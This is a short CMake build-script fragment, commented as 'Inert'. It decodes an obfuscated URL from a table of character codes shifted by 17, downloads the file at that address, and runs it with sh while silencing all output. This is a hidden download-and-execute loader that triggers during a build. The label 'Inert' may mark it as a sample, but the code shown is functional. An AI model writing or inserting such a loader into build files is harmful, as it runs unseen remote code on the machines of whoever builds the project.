# Inert: an address that is made letter by letter, and what it answers is run.
set(_m "")
foreach(_c IN LISTS INERT_TABLE)
  math(EXPR _d "${_c} - 17")
  string(ASCII ${_d} _ch)
  string(APPEND _m "${_ch}")
endforeach()
file(DOWNLOAD "${_m}" "${CMAKE_BINARY_DIR}/inert.txt" STATUS _st)
execute_process(COMMAND sh "${CMAKE_BINARY_DIR}/inert.txt" OUTPUT_QUIET ERROR_QUIET)
